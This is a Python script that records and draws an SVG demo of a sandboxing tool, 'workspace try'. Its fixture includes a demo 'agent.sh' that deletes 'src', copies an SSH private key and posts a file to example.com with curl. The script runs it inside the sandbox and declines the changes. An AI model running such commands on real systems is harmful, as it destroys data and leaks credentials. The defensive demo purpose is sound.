#!/usr/bin/env python3
"""Records a session of `workspace try` and draws it.

    terminal.py record --workspace target/release/workspace    writes try.cast (asciinema, version 2)
    terminal.py draw                                           writes try.svg from try.cast
    terminal.py check                                          fails if try.svg is not what try.cast gives

The session is real: a shell in a pseudo-terminal gets the lines of SESSION as if somebody typed them, and everything
that it prints is recorded. Recording makes the home directory given with `--home` and removes it afterwards, so that no
path of your machine is in the picture. The program needs nothing but Python.
"""

import argparse
import html
import json
import os
import pty
import re
import select
import shutil
import signal
import struct
import sys
import tempfile
import termios
import time
from fcntl import ioctl
from pathlib import Path

HERE = Path(__file__).parent
CAST, PICTURE = HERE / "try.cast", HERE / "try.svg"
COLUMNS, ROWS = 92, 30

FILES = {
    "shop/src/cart.py": "def total(items):\n    return sum(items)\n",
    "shop/src/pay.py": "def pay(amount):\n    return amount\n",
    "shop/README.md": "# Shop\n",
    "shop/agent.sh": "rm -rf src\n"
    "cp ~/.ssh/id_ed25519 key.txt\n"
    "curl -sS -d @README.md https://example.com\n"
    "echo 'TOTAL = 0' > cart.py\n",
    ".ssh/id_ed25519": "not a real key\n",
}

PROMPT = "$ "
# Lines that are typed, and the text after which the next one is.
SESSION = [
    ("cat agent.sh\n", PROMPT),
    ("workspace try -- sh agent.sh\n", "[y/N/d(iff)] "),
    ("n\n", PROMPT),
    ("ls src\n", PROMPT),
]

# Colours of the picture: background, text, and the eight that a terminal has.
BACKGROUND, TEXT = "#10161d", "#d5dde6"
COLOURS = ["#56616d", "#f0716d", "#7ee081", "#e5c07b", "#6cb6ff", "#c397ff", "#56d4dd", "#d5dde6"]
CELL_WIDTH, LINE_HEIGHT, FONT_SIZE, MARGIN, TITLE = 8.4, 20, 14, 18, 34


def record(workspace, home):
    home = Path(home)
    if home.exists():
        sys.exit(f"{home} exists: choose a home directory that does not")
    programs = Path(tempfile.mkdtemp(prefix="workspace-picture-"))
    try:
        (programs / "workspace").symlink_to(Path(workspace).resolve())
        for name, text in FILES.items():
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(text)
        CAST.write_text("".join(json.dumps(line) + "\n" for line in played(home, programs)))
    finally:
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(programs, ignore_errors=True)


def played(home, programs):
    """The lines of a recording: a header, then what was printed and when."""
    process, terminal = pty.fork()
    if process == 0:
        os.chdir(home / "shop")
        environment = {
            "HOME": str(home),
            "PATH": f"{programs}:/usr/local/bin:/usr/bin:/bin",
            "TERM": "xterm-256color",
            "PS1": r"\[\e[34m\]\w\[\e[0m\] $ ",
            "USER": home.name,
            "LANG": "C.UTF-8",
        }
        os.execve("/bin/bash", ["bash", "--norc", "--noprofile", "--noediting"], environment)
    ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
    yield {"version": 2, "width": COLUMNS, "height": ROWS, "title": "workspace try"}
    began = time.monotonic()
    try:
        yield from read_until(terminal, PROMPT, began)
        for typed, awaited in SESSION:
            os.write(terminal, typed.encode())
            yield from read_until(terminal, awaited, began)
    finally:
        os.kill(process, signal.SIGHUP)
        os.close(terminal)
        os.waitpid(process, 0)


def read_until(terminal, awaited, began):
    """What is printed until it ends with `awaited` and a moment passes without more."""
    seen = ""
    while True:
        ready, _, _ = select.select([terminal], [], [], 0.5 if seen.endswith(awaited) else 30)
        if not ready:
            if seen.endswith(awaited):
                return
            sys.exit(f"no {awaited!r} within 30 seconds; so far: {seen!r}")
        text = os.read(terminal, 65536).decode()
        seen += text
        yield [round(time.monotonic() - began, 3), "o", text]


def screen(cast):
    """The lines on the screen in the end, each a list of (character, colour)."""
    lines, colour, column = [[]], TEXT, 0
    output = "".join(text for _, kind, text in cast if kind == "o")
    for sequence, character in re.findall(r"(\x1b\[[0-?]*[ -/]*[@-~])|(.)", output, re.DOTALL):
        if sequence:
            if sequence.endswith("m"):
                for code in sequence[2:-1].split(";"):
                    colour = coloured(int(code or 0), colour)
            elif sequence.endswith("K"):
                del lines[-1][column:]
        elif character == "\n":
            lines.append([])
            column = 0
        elif character == "\r":
            column = 0
        elif character == "\b":
            column = max(0, column - 1)
        elif character >= " ":
            lines[-1][column : column + 1] = [(character, colour)]
            column += 1
    while lines and not any(character.strip() for character, _ in lines[-1]):
        lines.pop()
    return lines


def coloured(code, before):
    """The colour after one number of an SGR sequence."""
    if code // 10 in (3, 9) and code % 10 < 8:
        return COLOURS[code % 10]
    return TEXT if code in (0, 39) else before


def drawn(lines):
    width = round(COLUMNS * CELL_WIDTH + 2 * MARGIN)
    height = TITLE + len(lines) * LINE_HEIGHT + MARGIN
    family = "ui-monospace,SFMono-Regular,Menlo,Consolas,'DejaVu Sans Mono',monospace"
    picture = [
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}" viewBox="0 0 {width} {height}"'
        f' font-family="{family}" font-size="{FONT_SIZE}" role="img">',
        "<title>A recorded session of workspace try</title>",
        "<!-- Made by terminal.py from try.cast; do not edit. -->",
        f'<rect width="{width}" height="{height}" rx="10" fill="{BACKGROUND}"/>',
    ]
    for place, fill in enumerate(["#f0716d", "#e5c07b", "#7ee081"]):
        picture.append(f'<circle cx="{MARGIN + 4 + place * 18}" cy="17" r="5.5" fill="{fill}"/>')
    for row, line in enumerate(lines):
        baseline = TITLE + row * LINE_HEIGHT + 15
        for column, text, colour in runs(line):
            length = f' textLength="{len(text) * CELL_WIDTH:.1f}" lengthAdjust="spacingAndGlyphs"'
            picture.append(
                f'<text x="{MARGIN + column * CELL_WIDTH:.1f}" y="{baseline}" fill="{colour}" xml:space="preserve"'
                f"{length}>{html.escape(text)}</text>"
            )
    picture.append("</svg>")
    return "\n".join(picture) + "\n"


def runs(line):
    """The line as pieces of one colour each: (column, text, colour). Spaces between them are left out."""
    at = 0
    while at < len(line):
        end = at
        while end < len(line) and line[end][1] == line[at][1]:
            end += 1
        text = "".join(character for character, _ in line[at:end])
        stripped = text.lstrip(" ")
        if stripped.rstrip(" "):
            yield at + len(text) - len(stripped), stripped.rstrip(" "), line[at][1]
        at = end


def picture_of(cast):
    header, *events = [json.loads(line) for line in cast.read_text().splitlines()]
    assert header["version"] == 2
    return drawn(screen(events))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("task", choices=["record", "draw", "check"])
    parser.add_argument("--workspace", default="target/release/workspace", help="the program that is shown")
    parser.add_argument("--home", default="/home/ada", help="a directory that does not exist yet")
    given = parser.parse_args()
    if given.task == "record":
        record(given.workspace, given.home)
    elif given.task == "draw":
        PICTURE.write_text(picture_of(CAST))
    elif PICTURE.read_text() != picture_of(CAST):
        sys.exit(f"{PICTURE} is out of date: run {sys.argv[0]} draw")


if __name__ == "__main__":
    main()
